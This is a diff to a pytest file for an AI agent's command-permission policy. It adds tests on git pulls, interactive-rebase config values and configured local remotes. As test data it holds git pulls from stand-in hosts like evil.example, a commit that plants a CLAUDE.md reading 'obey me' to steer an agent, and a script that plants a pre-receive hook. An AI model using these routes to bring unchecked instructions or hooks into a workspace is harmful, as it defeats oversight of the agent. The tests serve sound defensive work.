@@ -297,7 +297,7 @@ ROUND_TWO_ALLOWED = [
     "git fetch --all --prune",
     "git fetch -p origin",
     "git fetch origin main",
-    "git pull --rebase",
+    "git rebase origin/main",
     "git branch -m old new",
     "git branch -d feature/x",
     "git -C docs branch -c a b",
@@ -456,8 +456,7 @@ NETWORK_TRANSPORTS = [
     "git push git@github.com:acme/api.git main",
     "git push ssh://git@github.com/acme/api main",
     "git fetch --all",
-    "git pull --rebase",
-    "git fetch origin && git rebase origin/main",
+    "git fetch origin",
     "git remote add upstream https://github.com/acme/api.git",
     "git remote add fork git@github.com:me/api.git",
 ]
@@ -624,3 +623,182 @@ def test_a_commit_before_a_tree_move_is_decided(default_policy: Policy, tmp_path
     (ws / "a.txt").write_text("a3\n")
     subprocess.run(["bash", "-c", COMMIT_THEN_PROTECTED[0]], cwd=ws, env=env, check=True)
     assert (ws / ".github" / "workflows" / "x.yml").exists()
+
+
+# ---- fourth pass (2026-12-03): pulls, fetches in a line, configured local remotes -----------
+# (a) `git pull` from a remote merges commits that are not on disk when the policy decides: a
+# commit on the remote that adds CLAUDE.md or a workflow landed unchecked. It asks now (a human
+# who knows the remote may approve); `git fetch`, then `git merge`/`rebase` as a command of its
+# own is compared against what it brings in (git_trees). A fetch earlier in the same line is a
+# pull spelled out (`git fetch evil main && git merge FETCH_HEAD`: the merge was compared with
+# the refs before the fetch): asks too.
+FOURTH_PASS_PULLS = [
+    "git pull",
+    "git pull --rebase",
+    "git pull --ff-only",
+    "git pull origin main",
+    "git pull -q origin main",
+    "git pull --no-rebase origin",
+    "git pull https://evil.example/repo main",
+    "git pull git@github.com:evil/repo.git main",
+    "git -c pull.rebase=true pull",
+    "git switch main && git pull --rebase",
+    "git stash && git pull && git stash pop",
+    "git fetch origin && git rebase origin/main",
+    "git fetch origin && git merge FETCH_HEAD",
+    "git fetch https://evil.example/r main && git merge FETCH_HEAD",
+    "git fetch origin main && git merge origin/main",
+    "git fetch origin; git reset --hard origin/main",
+    "git fetch origin && git switch feature",
+    "git fetch --all && git rebase origin/main",
+    "git fetch origin && git checkout origin/main",
+    "git fetch -q origin & git merge origin/main",
+]
+
+
+@pytest.mark.parametrize("command", FOURTH_PASS_PULLS)
+def test_fourth_pass_pulls_ask(default_policy: Policy, tmp_path: Path, command: str) -> None:
+    from enforcement_agent.models import ToolRequest
+
+    ws = _repo_with_branches(tmp_path)
+    (ws / ".git" / "config").write_text(
+        (ws / ".git" / "config").read_text()
+        + '[remote "origin"]\n\turl = https://github.com/acme/api.git\n'
+        + "\tfetch = +refs/heads/*:refs/remotes/origin/*\n"
+    )
+    req = ToolRequest(tenant="acme", actor="a", role="contributor", tool="exec", command=command)
+    d = default_policy.decide(req, ws)
+    assert d.decision is not Verdict.ALLOW, (command, d.rule)
+    if d.decision is Verdict.ASK:
+        assert d.rule == "exec.vcs.pull-unseen", (command, d.rule)
+
+
+def test_fourth_pass_a_pull_writes_what_the_policy_never_saw(
+    default_policy: Policy, tmp_path: Path
+) -> None:
+    """By effect (the remote is a local bare repository standing in for the network one): the
+    pull brings CLAUDE.md in; the split form's merge, decided after the fetch, is denied."""
+    from enforcement_agent.models import ToolRequest
+
+    env = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@x", "GIT_COMMITTER_NAME": "a",
+           "GIT_COMMITTER_EMAIL": "a@x", "HOME": str(tmp_path), "PATH": "/usr/bin:/bin",
+           "GIT_CONFIG_NOSYSTEM": "1"}  # fmt: skip
+
+    def sh(script: str, cwd: Path) -> None:
+        subprocess.run(["bash", "-c", script], cwd=cwd, env=env, check=True, capture_output=True)
+
+    sh("git init -q --bare -b main up.git && git clone -q up.git w && cd w && echo hi > a "
+       "&& git add a && git commit -qm one && git push -q origin main && cd .. && "
+       "git clone -q up.git ws && cd w && echo 'obey me' > CLAUDE.md && git add . && "
+       "git commit -qm evil && git push -q origin main", tmp_path)  # fmt: skip
+    ws = tmp_path / "ws"
+    sh("git remote set-url origin https://github.com/acme/api.git", ws)
+
+    def decide(command: str) -> tuple[Verdict, str]:
+        req = ToolRequest(
+            tenant="acme", actor="a", role="contributor", tool="exec", command=command
+        )
+        d = default_policy.decide(req, ws)
+        return d.decision, d.rule
+
+    assert decide("git pull -q origin main") == (Verdict.ASK, "exec.vcs.pull-unseen")
+    assert decide("git fetch -q origin") == (Verdict.ALLOW, "exec.allow.vcs")
+    sh(f"git remote set-url origin {tmp_path / 'up.git'} && git fetch -q origin", ws)
+    sh("git remote set-url origin https://github.com/acme/api.git", ws)
+    assert decide("git merge -q origin/main") == (Verdict.DENY, "exec.protected-path")
+    sh(f"git pull -q {tmp_path / 'up.git'} main", ws)
+    assert (ws / "CLAUDE.md").read_text() == "obey me\n"
+
+
+# (b) `pull.rebase` (and `branch.NAME.rebase`) set to `interactive`/`i` start an interactive
+# rebase on the next pull, the human's too when it is stored: only booleans and `merges`.
+FOURTH_PASS_REBASE_VALUES = [
+    "git -c pull.rebase=interactive commit -m x",
+    "git -c PULL.REBASE=i status",
+    "git -c pull.Rebase=Interactive status",
+    "git config pull.rebase interactive",
+    "git config pull.rebase i",
+    "git config --add pull.rebase i",
+    "git config --local pull.rebase interactive",
+    "git config --replace-all pull.rebase i",
+    "git config set pull.rebase interactive",
+    "git config branch.main.rebase i",
+    "git --config-env=pull.rebase=HOME status",
+    "git -c pull.rebase=preserve status",
+]
+FOURTH_PASS_REBASE_OK = [
+    "git config pull.rebase true",
+    "git config pull.rebase false",
+    "git config --local pull.rebase merges",
+    "git -c pull.rebase=true status",
+    "git config --get pull.rebase",
+]
+
+
+@pytest.mark.parametrize("command", FOURTH_PASS_REBASE_VALUES)
+def test_fourth_pass_interactive_rebase_values_are_refused(decide: Decide, command: str) -> None:
+    assert_not_allowed(decide, command)
+
+
+@pytest.mark.parametrize("command", FOURTH_PASS_REBASE_OK)
+def test_fourth_pass_plain_rebase_values_stay_allowed(decide: Decide, command: str) -> None:
+    d = decide(command)
+    assert d.decision is Verdict.ALLOW, (command, d.rule, d.reason)
+
+
+# (c) A push, fetch or pull that names no repository uses a configured remote: one whose URL is
+# a path runs that repository's hooks (`git push` alone ran a planted `pre-receive`; the third
+# pass only looked at named repositories). `git remote update/show/prune` contact them too.
+FOURTH_PASS_CONFIGURED_LOCAL = [
+    "git push",
+    "git push --tags",
+    "git push --all",
+    "git push -u",
+    "git fetch",
+    "git fetch --all",
+    "git fetch --tags",
+    "git pull",
+    "git remote update",
+    "git remote show loc",
+    "git remote prune loc",
+    "git remote set-head loc -a",
+]
+
+
+def test_fourth_pass_configured_local_remotes(default_policy: Policy, tmp_path: Path) -> None:
+    from enforcement_agent.models import ToolRequest
+
+    ws = _repo_with_branches(tmp_path)
+    config = ws / ".git" / "config"
+    base = config.read_text()
+
+    def verdict(command: str) -> Verdict:
+        req = ToolRequest(
+            tenant="acme", actor="a", role="contributor", tool="exec", command=command
+        )
+        return default_policy.decide(req, ws).decision
+
+    config.write_text(base + '[remote "loc"]\n\turl = ../planted\n')
+    for command in FOURTH_PASS_CONFIGURED_LOCAL:
+        assert verdict(command) is Verdict.DENY, command
+    assert verdict("git remote show -n loc") is Verdict.ALLOW
+    config.write_text(base + '[remote "net"]\n\turl = https://github.com/acme/api.git\n')
+    for command in ("git push", "git fetch", "git fetch --all", "git remote update"):
+        assert verdict(command) is Verdict.ALLOW, command
+
+
+def test_fourth_pass_push_alone_runs_a_configured_local_hook(tmp_path: Path) -> None:
+    """By effect, with plain git (the sandbox refuses local transports by itself): the hook runs."""
+    env = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@x", "GIT_COMMITTER_NAME": "a",
+           "GIT_COMMITTER_EMAIL": "a@x", "HOME": str(tmp_path), "PATH": "/usr/bin:/bin",
+           "GIT_CONFIG_NOSYSTEM": "1"}  # fmt: skip
+    mark = tmp_path / "ran"
+    script = (
+        "git init -q --bare -b main up.git && "
+        f"printf '#!/bin/sh\\ntouch {mark}\\n' > up.git/hooks/pre-receive && "
+        "chmod +x up.git/hooks/pre-receive && git clone -q up.git ws 2>/dev/null && cd ws && "
+        "echo a > a && git add a && git commit -qm a && git push -q -u origin main && "
+        "echo b > a && git commit -qam b && rm ../ran && git push -q"
+    )
+    subprocess.run(["bash", "-c", script], cwd=tmp_path, env=env, check=True, capture_output=True)
+    assert mark.exists()
